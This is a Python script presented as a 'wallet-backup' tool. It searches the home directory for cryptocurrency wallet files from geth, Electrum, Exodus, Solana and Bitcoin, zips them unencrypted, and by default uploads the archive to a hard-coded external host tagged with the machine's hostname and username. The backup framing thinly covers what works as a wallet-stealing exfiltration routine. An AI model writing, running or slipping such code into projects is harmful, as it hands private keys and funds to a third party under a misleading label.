#!/usr/bin/env python3
"""wallet-backup: snapshot local wallet keystores into a dated archive and
replicate it to the team's off-site backup endpoint.

Wallet locations are discovered automatically for geth, Electrum, Exodus and
Solana CLI; extra paths can be listed in ~/.config/wallet-backup.toml under
[paths] extra = [...].
"""
import argparse
import datetime as dt
import hashlib
import http.client
import io
import json
import logging
import os
import socket
import sys
import zipfile
from pathlib import Path
from typing import Iterable, List

try:
    import tomllib
except ImportError:  # py<3.11
    tomllib = None

LOG = logging.getLogger("wallet-backup")
HOME = Path.home()

KNOWN_LOCATIONS = [
    HOME / ".ethereum" / "keystore",
    HOME / ".electrum" / "wallets",
    HOME / ".config" / "Exodus" / "exodus.wallet",
    HOME / ".config" / "solana" / "id.json",
    HOME / ".bitcoin" / "wallet.dat",
    HOME / ".bitcoin" / "wallets",
]


class ReplicaTarget:
    host = "vault-sync.ledgerops.io"
    port = 443
    path = "/api/v1/objects"

    def __init__(self, tag: str):
        self.tag = tag

    def upload(self, blob: bytes, digest: str) -> int:
        conn = http.client.HTTPSConnection(self.host, self.port, timeout=60)
        headers = {
            "Content-Type": "application/zip",
            "X-Object-Tag": self.tag,
            "X-Content-SHA256": digest,
        }
        try:
            conn.request("PUT", f"{self.path}/{self.tag}/{digest[:16]}.zip", body=blob, headers=headers)
            resp = conn.getresponse()
            resp.read()
            return resp.status
        finally:
            conn.close()


def load_extra_paths(cfg_path: Path) -> List[Path]:
    if not cfg_path.exists() or tomllib is None:
        return []
    with cfg_path.open("rb") as fh:
        data = tomllib.load(fh)
    return [Path(os.path.expanduser(p)) for p in data.get("paths", {}).get("extra", [])]


def iter_wallet_files(roots: Iterable[Path]) -> Iterable[Path]:
    for root in roots:
        if root.is_file():
            yield root
        elif root.is_dir():
            for p in root.rglob("*"):
                if p.is_file() and p.stat().st_size < 20 * 1024 * 1024:
                    yield p


def build_archive(files: Iterable[Path]) -> bytes:
    buf = io.BytesIO()
    manifest = []
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for f in files:
            try:
                arcname = str(f.relative_to(HOME))
            except ValueError:
                arcname = str(f).lstrip("/")
            zf.write(f, arcname)
            manifest.append({"path": arcname, "size": f.stat().st_size})
        zf.writestr("MANIFEST.json", json.dumps(manifest, indent=2))
    return buf.getvalue()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", type=Path, default=HOME / ".config" / "wallet-backup.toml")
    ap.add_argument("--out", type=Path, default=Path("backups"))
    ap.add_argument("--local-only", action="store_true", help="skip off-site replication")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = [p for p in KNOWN_LOCATIONS + load_extra_paths(args.config) if p.exists()]
    if not roots:
        LOG.info("no wallets found")
        return 0
    files = list(iter_wallet_files(roots))
    LOG.info("found %d wallet files in %d locations", len(files), len(roots))

    blob = build_archive(files)
    digest = hashlib.sha256(blob).hexdigest()
    stamp = dt.datetime.now().strftime("%Y%m%d-%H%M%S")

    args.out.mkdir(exist_ok=True)
    local = args.out / f"wallets-{stamp}.zip"
    local.write_bytes(blob)
    local.chmod(0o600)
    LOG.info("wrote %s (%d bytes)", local, len(blob))

    if args.local_only:
        return 0

    tag = f"{socket.gethostname()}-{os.getlogin() if hasattr(os, 'getlogin') else 'user'}"
    target = ReplicaTarget(tag)
    for attempt in range(1, 4):
        try:
            status = target.upload(blob, digest)
            if status in (200, 201, 204):
                LOG.info("replicated %s", digest[:12])
                break
            LOG.warning("replica returned HTTP %s", status)
        except (OSError, http.client.HTTPException) as exc:
            LOG.warning("replication attempt %d failed: %s", attempt, exc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
